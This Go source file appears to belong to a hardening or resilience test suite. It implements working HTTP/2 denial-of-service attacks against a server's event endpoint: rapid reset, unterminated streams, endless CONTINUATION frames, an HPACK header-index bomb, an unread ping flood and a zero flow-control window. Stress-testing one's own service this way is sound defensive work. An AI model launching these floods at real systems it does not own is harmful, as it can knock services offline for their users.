package hardening

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// speaker writes any HTTP/2 frames.
type speaker struct {
	*http2.Framer

	conn   net.Conn
	out    *bufio.Writer
	block  bytes.Buffer
	hpack  *hpack.Encoder
	stream uint32
	frames *atomic.Int64
}

// speaking attacks as a known runtime, by HTTP/2. It reads the answers of the listener if reads is
// true.
func (s *siege) speaking(reads bool, settings []http2.Setting, do func(ctx context.Context, s *speaker) error,
) func(context.Context) error {
	return func(ctx context.Context) error {
		conn, err := tlsFrom(ctx, attackers, s.addr, s.client(s.loud, "h2"))
		if err != nil {
			return err
		}
		defer conn.Close()
		stop := context.AfterFunc(ctx, func() { conn.Close() })
		defer stop()
		if tcp, ok := conn.NetConn().(*net.TCPConn); ok && !reads {
			_ = tcp.SetReadBuffer(4 << 10) // Else the system buffers megabytes.
		}
		if reads {
			heard := make(chan struct{})
			defer func() {
				conn.Close()
				<-heard
			}()
			go func() {
				defer close(heard)
				_, _ = io.Copy(io.Discard, conn) // It ends with the connection.
				conn.Close()
			}()
		}
		out := bufio.NewWriterSize(conn, 64<<10)
		speaker := &speaker{Framer: http2.NewFramer(out, nil), conn: conn, out: out, stream: 1, frames: &s.frames}
		speaker.hpack = hpack.NewEncoder(&speaker.block)
		if _, err := out.WriteString(http2.ClientPreface); err != nil {
			return err
		}
		if err := errors.Join(speaker.WriteSettings(settings...), speaker.WriteSettingsAck(), out.Flush()); err != nil {
			return err
		}
		return do(ctx, speaker)
	}
}

// again repeats a step until the listener closes the connection, up to a limit.
func (s *speaker) again(ctx context.Context, times int, do func() error) error {
	const batch = 50
	for i := range times {
		if err := do(); err != nil {
			return err
		}
		if i%batch == 0 {
			if err := s.out.Flush(); err != nil {
				return err
			}
			s.frames.Add(batch)
		}
		if ctx.Err() != nil {
			break
		}
	}
	return s.out.Flush()
}

// request begins a request on a new stream and returns the stream.
func (s *speaker) request(method, path string, ends bool, more ...hpack.HeaderField) (uint32, error) {
	id := s.stream
	s.stream += 2
	return id, s.WriteHeaders(http2.HeadersFrameParam{
		StreamID: id, EndHeaders: true, EndStream: ends, BlockFragment: s.fields(method, path, more...),
	})
}

func (s *speaker) fields(method, path string, more ...hpack.HeaderField) []byte {
	s.block.Reset()
	for _, field := range append([]hpack.HeaderField{
		{Name: ":method", Value: method},
		{Name: ":path", Value: path},
		{Name: ":scheme", Value: "https"},
		{Name: ":authority", Value: "a"},
		{Name: "content-type", Value: "application/json"},
	}, more...) {
		_ = s.hpack.WriteField(field) // It writes into memory.
	}
	return s.block.Bytes()
}

// stay waits until the listener closes the connection, which also ends the reader.
func (s *speaker) stay(ctx context.Context) error {
	<-ctx.Done()
	return nil
}

// pauseOfFrames is the pause before an attack by frames is repeated.
const pauseOfFrames = 200 * time.Millisecond

const eventPath = "/v2/" + manager + "/event"

// frameAttacks are attacks by HTTP/2, of a runtime with a good certificate.
func (s *siege) frameAttacks() []attack {
	return []attack{
		{"more events than its share", s.share(8), pauseOfFrames, s.speaking(true, nil, func(ctx context.Context, s *speaker) error {
			event := []byte(eventV2("loud"))
			return s.again(ctx, 3000, func() error {
				id, err := s.request("POST", eventPath, false)
				return errors.Join(err, s.WriteData(id, true, event))
			})
		}), true},
		{
			"thousands of streams that do not end", s.share(8), pauseOfFrames,
			s.speaking(true, nil, func(ctx context.Context, s *speaker) error {
				return s.again(ctx, 3000, func() error {
					_, err := s.request("POST", eventPath, false)
					return err
				})
			}), true,
		},
		{"rapid reset", s.share(8), pauseOfFrames, s.speaking(true, nil, func(ctx context.Context, s *speaker) error {
			return s.again(ctx, 5000, func() error {
				id, err := s.request("POST", eventPath, false)
				return errors.Join(err, s.WriteRSTStream(id, http2.ErrCodeCancel))
			})
		}), true},
		{
			"header lists of one byte for four thousand", s.share(4), pauseOfFrames,
			s.speaking(true, nil, func(ctx context.Context, s *speaker) error {
				if _, err := s.request("GET", "/", true, hpack.HeaderField{
					Name:  "x",
					Value: strings.Repeat("a", 3900),
				}); err != nil {
					return err
				}
				// Index 62 is the youngest entry of the table.
				bomb := bytes.Repeat([]byte{0xbe}, 16<<10-1)
				return s.again(ctx, 100, func() error {
					s.stream += 2
					return s.WriteHeaders(http2.HeadersFrameParam{
						StreamID: s.stream, EndHeaders: true, EndStream: true,
						BlockFragment: bomb,
					})
				})
			}), true,
		},
		{"continuations without end", s.share(4), pauseOfFrames, s.speaking(true, nil, func(ctx context.Context, s *speaker) error {
			id := s.stream
			block := s.fields("GET", "/")
			if err := s.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block}); err != nil {
				return err
			}
			s.block.Reset()
			_ = s.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("a", 4000), Sensitive: true})
			filler := bytes.Clone(s.block.Bytes())
			return s.again(ctx, 5000, func() error { return s.WriteContinuation(id, false, filler) })
		}), false},
		{"pings, the answers not read", s.share(4), pauseOfFrames, s.speaking(false, nil, func(ctx context.Context, s *speaker) error {
			if err := s.again(ctx, 1_000_000, func() error { return s.WritePing(false, [8]byte{}) }); err != nil {
				return err
			}
			return s.stay(ctx)
		}), true}, // It ends when the buffers of both systems are full, which can be never.
		{"a window of zero", s.share(8), pauseOfFrames, s.speaking(true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}},
			func(ctx context.Context, s *speaker) error {
				if err := s.again(ctx, 250, func() error {
					_, err := s.request("GET", "/", true)
					return err
				}); err != nil {
					return err
				}
				return s.stay(ctx)
			}), true},
	}
}
